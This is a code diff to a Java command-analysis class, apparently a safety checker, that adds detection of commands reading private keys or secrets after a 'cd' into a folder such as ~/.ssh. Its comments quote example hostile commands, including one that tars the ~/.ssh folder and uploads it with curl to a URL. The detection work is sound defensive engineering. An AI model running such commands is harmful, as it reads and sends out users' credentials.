@@ -2969,13 +2969,46 @@ public final class Cmd {
         return rsh.replaceAll("(?i)(^|\\s)(-i\\s*\\S+|-o\\s*identityfile\\s*=?\\s*\\S+)", " ");
     }
 
-    /** True when an operand or input redirection is a private key or a system credential store. */
-    public boolean readsCredentialStore() {
+    /**
+     * True when an operand or input redirection is a private key or a system credential store, as
+     * written or from the folder a {@code cd} went to ({@code cd ~/.ssh && cat id_rsa}).
+     */
+    public boolean readsCredentialStore(Ctx ctx) {
         List<String> all = new ArrayList<>(operands);
         all.addAll(redirectReads);
         for (String a : all) {
             if (PathFacts.isCredentialStore(a)) {
                 return true;
+            }
+        }
+        return relativeOperandFromCd(ctx, PathFacts::isCredentialStore);
+    }
+
+    /**
+     * True when a relative operand or input redirection, read in a folder a {@code cd} went to,
+     * names a secret ({@code cd ~/.ssh && tar cz . | curl -T - URL}); {@link #mentionsSecret}
+     * reads the words as written.
+     */
+    public boolean namesSecretFromCd(Ctx ctx) {
+        return relativeOperandFromCd(ctx, PathFacts::isSecret);
+    }
+
+    /** Whether {@code test} holds for a relative operand resolved against a folder a cd went to. */
+    private boolean relativeOperandFromCd(Ctx ctx, java.util.function.Predicate<String> test) {
+        if (cwds.isEmpty()) {
+            return false; // no cd: the words as written were judged
+        }
+        List<String> all = new ArrayList<>(operands);
+        all.addAll(redirectReads);
+        for (String a : all) {
+            String p = PathFacts.unquote(a);
+            if (p.isEmpty() || p.startsWith("/") || p.startsWith("~") || p.startsWith("$") || p.startsWith("-")) {
+                continue;
+            }
+            for (String dir : cwds) {
+                if (!dir.equals(WorkingDirs.UNKNOWN) && test.test(PathFacts.resolve(p, dir, ctx.home()))) {
+                    return true;
+                }
             }
         }
         return false;
